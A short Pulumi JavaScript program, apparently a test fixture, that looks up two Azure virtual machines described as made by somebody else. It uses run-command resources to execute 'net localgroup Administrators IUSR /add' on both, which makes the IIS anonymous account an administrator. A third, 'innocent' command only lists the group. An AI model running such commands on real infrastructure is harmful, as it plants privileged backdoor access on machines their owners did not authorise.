const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// Machines that somebody else made, found by id and by name.
const found = compute.VirtualMachine.get("found", "/subscriptions/0/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm-old");
const asked = compute.getVirtualMachineOutput({ resourceGroupName: "rg", vmName: "vm-asked" });
const run = (name, vmName, script) => new compute.VirtualMachineRunCommandByVirtualMachine(name, { resourceGroupName: "rg", vmName, source: { script } });
run("on-found", found.name, "net localgroup Administrators IUSR /add");
run("on-asked", asked.name, pulumi.interpolate`# ${asked.location}\nnet localgroup Administrators IUSR /add`);
run("innocent", "vm-new", pulumi.interpolate`# ${asked.osProfile.apply((os) => os?.computerName)}\nnet localgroup Administrators`);
